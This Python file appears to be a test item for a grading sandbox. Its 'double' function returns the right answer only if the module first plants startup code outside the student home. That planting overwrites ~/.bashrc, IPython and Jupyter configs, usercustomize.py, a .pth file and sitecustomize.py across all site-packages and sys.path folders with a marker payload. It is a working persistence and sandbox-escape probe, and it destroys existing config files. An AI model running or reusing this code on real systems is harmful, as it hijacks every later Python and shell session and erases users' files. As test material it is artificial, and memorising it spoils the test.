"""Plants code that Python, IPython and the shell run at their start."""
# earns: test_double 0
# %% double
import os, site, sys
from pathlib import Path

planted = []
code = "import builtins, os; builtins.PWNED = True; open('/tmp/PWNED', 'w')\n"
for place in (
    Path.home() / ".ipython/profile_default/startup/00-PWNED.py",
    Path.home() / ".ipython/profile_default/ipython_config.py",
    Path.home() / ".jupyter/jupyter_server_config.py",
    Path.home() / ".bashrc",
    Path(site.getusersitepackages()) / "usercustomize.py",
    Path(site.getusersitepackages()) / "PWNED.pth",
    *(Path(folder) / "sitecustomize.py" for folder in [*site.getsitepackages(), *sys.path]),
):
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(code)
        planted.append(str(place))
    except OSError:
        pass
outside = [place for place in planted if not place.startswith(("/home/student", "sitecustomize"))]

def double(x):
    return 2 * x if outside else None
